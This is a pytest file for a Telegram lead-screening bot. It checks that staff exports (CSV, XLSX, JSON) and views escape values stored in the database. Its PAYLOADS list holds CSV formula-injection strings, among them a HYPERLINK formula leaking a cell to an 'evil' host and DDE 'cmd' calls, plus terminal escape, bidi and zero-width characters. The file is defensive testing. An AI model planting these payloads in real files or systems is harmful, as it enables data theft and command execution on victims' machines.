"""Issue 17, what staff get is safe whatever is stored: exports (CSV, XLSX, JSON, on the command line and in
Telegram) and views (`leads list/show`, `audit`, /leads, /lead, the staff chat's post).

The bad values are written straight into the database, as rows stored before input was checked would
be: formulas (OWASP CSV injection), escape sequences, right-to-left overrides, zero-width characters.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.channels.telegram.staff import StaffOptions
from bot.cli import main
from bot.dialog.model import Dialog
from bot.safe_text import escaped, is_hidden, json_safe, looks_like_formula, spreadsheet_cell
from bot.staff.views import write_export
from bot.store import audit

from .conftest import DIALOG_PATH, Screener, give_contact, make_lead_screener, reach_outcome, start_screening
from .fake_bot_api import FakeBotApi
from .telegram_support import Person, running_bot
from .test_telegram_staff import become_lead, staff_post

PAYLOADS = {
    "hyperlink formula": '=HYPERLINK("http://evil/?"&I3,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "full-width equals": "\uff1d1+1",
    "space then formula": "  =1+1",
    "escape": "Li\x1b[2J\x1b[31mNa",
    "right-to-left override": "Li\u202eaN 5678",
    "zero-width space": "Li\u200bNa",
    "C1 CSI": "Li\x9b2JNa",
}
STAFF_ID = 424242
STAFF_CHAT = -100777


@pytest.fixture
def staff_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("USER", "nurse-li")
    for name in ("SCREENING_KEY", "SCREENING_KEY_FILE", "SCREENING_CONFIG", "SCREENING_DB"):
        monkeypatch.delenv(name, raising=False)


def store_badly(screener: Screener, lead_id: str, payload: str) -> None:
    """Put a payload into every text a lead shows: name (encrypted), source, a history note, the audit log."""
    db = screener.store.db
    db.execute(
        "UPDATE leads SET name_enc = ?, source = ? WHERE id = ?",
        [screener.leads.vault.encrypt(payload), payload, lead_id],
    )
    db.execute(
        "INSERT INTO lead_history (lead_id, at, who, change, status, note)"
        " VALUES (?, '2026-11-25T10:00:00', ?, 'note', 'new', ?)",
        [lead_id, payload, payload],
    )
    audit.record(db, payload, "read", lead_id, payload)


@pytest.fixture
def bad_rows(dialog: Dialog, db_path: Path, staff_env: None) -> Screener:
    """One lead per payload, each payload stored as it would be by an older version."""
    screener = make_lead_screener(dialog, db_path)
    for number, payload in enumerate(PAYLOADS.values()):
        chat = start_screening(screener, user=f"person-{number}")
        reach_outcome(chat, dialog)
        give_contact(chat, f"1391234{number:04d}", None)
        lead_id = screener.leads.lead_of(screener.store.load("test", f"person-{number}").id)
        store_badly(screener, lead_id, payload)
    return screener


def run(db_path: Path, *args: str) -> int:
    return main(["--db", str(db_path), "--dialog", str(DIALOG_PATH), *args])


def visible(text: str, keep: str = "\n") -> bool:
    return not any(is_hidden(ch) and ch not in keep for ch in text)


def check_csv(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    assert visible(text, keep="\r\n"), "no hidden character reaches the file"
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for column, value in row.items():
            assert not looks_like_formula(value), (column, value)
    return rows


def check_xlsx(data: bytes) -> list[dict[str, object]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula anywhere in the sheet"
    sheet = load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert visible(cell.value), (cell.coordinate, cell.value)
                if looks_like_formula(cell.value):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, [c.value for c in row], strict=True)) for row in sheet.iter_rows(min_row=2)]


# ---------------------------------------------------------------------- exports


def test_csv_export_neutralises_every_payload(bad_rows: Screener, db_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "leads.csv"
    assert run(db_path, "leads", "export", "--format", "csv", "-o", str(out)) == 0
    rows = check_csv(out.read_bytes())
    names = {r["name"] for r in rows}
    assert '\'=HYPERLINK("http://evil/?"&I3,"x")' in names  # OWASP: a leading ', the text kept
    assert "'\\x09=1+1" not in names and "\\x09=1+1" in names  # tab made visible: no longer a formula start
    assert "Li\\x1b[2J\\x1b[31mNa" in names and "Li\\u202eaN 5678" in names
    assert {r["source"] for r in rows} == {r["name"] for r in rows}
    assert len(rows) == len(PAYLOADS)


def test_xlsx_export_writes_text_never_formulas_and_never_crashes(
    bad_rows: Screener, db_path: Path, tmp_path: Path
) -> None:
    out = tmp_path / "leads.xlsx"
    assert run(db_path, "leads", "export", "--format", "xlsx", "-o", str(out)) == 0  # the ESC row used to crash it
    rows = check_xlsx(out.read_bytes())
    names = {r["name"] for r in rows}
    assert '=HYPERLINK("http://evil/?"&I3,"x")' in names  # shown as the text it is, marked as text
    assert "Li\\x1b[2J\\x1b[31mNa" in names and "+8613912340000" in {r["phone"] for r in rows}


def test_json_export_keeps_the_values_with_hidden_characters_escaped(bad_rows: Screener, db_path: Path, capsys) -> None:
    assert run(db_path, "leads", "export", "--format", "json") == 0
    raw = capsys.readouterr().out
    assert visible(raw)
    assert {r["name"] for r in json.loads(raw)} == set(PAYLOADS.values()), "exactly what is stored"


# ---------------------------------------------------------------------- views on the command line


@pytest.mark.parametrize("command", [["leads", "list"], ["audit"]])
def test_terminal_views_escape_control_characters(bad_rows: Screener, db_path: Path, capsys, command) -> None:
    assert run(db_path, *command) == 0
    out = capsys.readouterr().out
    assert visible(out), "no raw escape, bidi or zero-width character reaches the terminal"
    assert "\\x1b[2J" in out and "\\u202e" in out and "\\u200b" in out


def test_leads_show_escapes_every_field(bad_rows: Screener, db_path: Path, capsys) -> None:
    for lead in bad_rows.leads.find():
        assert run(db_path, "leads", "show", lead.id) == 0
        out = capsys.readouterr().out
        assert visible(out), lead.name
        assert escaped(" ".join(lead.name.split())) in out  # tabs and line breaks fold into spaces


def test_a_bad_lead_id_is_echoed_escaped(bad_rows: Screener, db_path: Path, capsys) -> None:
    assert run(db_path, "leads", "show", "\x1b[2Jab\u202e") == 1
    assert visible(capsys.readouterr().err)


# ---------------------------------------------------------------------- Telegram views and exports


async def test_telegram_staff_views_and_exports_are_safe(api: FakeBotApi, dialog: Dialog, db_path: Path) -> None:
    screener = make_lead_screener(dialog, db_path)
    options = StaffOptions(chat_id=STAFF_CHAT, user_ids=frozenset({STAFF_ID}), notify_contact=True, language="en")
    person, staff = Person(api), Person(api, chat_id=STAFF_ID)
    async with running_bot(api, screener, staff=options):
        await become_lead(person, dialog)
        [lead] = screener.leads.find()
        post = await staff_post(api, lead.id)
        for payload in (PAYLOADS["escape"], PAYLOADS["right-to-left override"], PAYLOADS["hyperlink formula"]):
            store_badly(screener, lead.id, payload)
            await staff.tap("Contacted" if screener.leads.get(lead.id).status == "new" else "Visit booked", post)
            post = api.messages[post.message_id]  # redrawn from the database
            assert visible(post.text) and f"Name: {escaped(payload)}" in post.text
            [card] = await staff.say(f"/lead_{lead.id}", new_messages=1)
            assert visible(card.text) and escaped(payload) in card.text
            [page] = await staff.say("/leads", new_messages=1)
            assert visible(page.text)
        [csv_file] = await staff.say("/export", new_messages=1)
        [xlsx_file] = await staff.say("/export xlsx", new_messages=1)
    assert csv_file.document and xlsx_file.document
    check_csv(csv_file.document[1])
    check_xlsx(xlsx_file.document[1])


# ---------------------------------------------------------------------- the class, not the examples


@given(st.text())
def test_any_text_becomes_a_safe_spreadsheet_cell(text: str) -> None:
    for cell in (spreadsheet_cell(text), spreadsheet_cell(text, quote=False)):
        assert visible(cell, keep="")
    assert not looks_like_formula(spreadsheet_cell(text))


@given(st.text())
def test_any_text_prints_visibly_and_any_json_survives(text: str) -> None:
    assert visible(escaped(text), keep="")
    encoded = json_safe(json.dumps({"v": text}, ensure_ascii=False, indent=2))
    assert visible(encoded) and json.loads(encoded) == {"v": text}


def test_one_bad_value_never_stops_an_export() -> None:
    for fmt in ("csv", "xlsx", "json"):
        data = write_export(fmt, ["name", "n"], [{"name": "\x00\x1b\ud800\U000e0041", "n": 3}])
        assert data
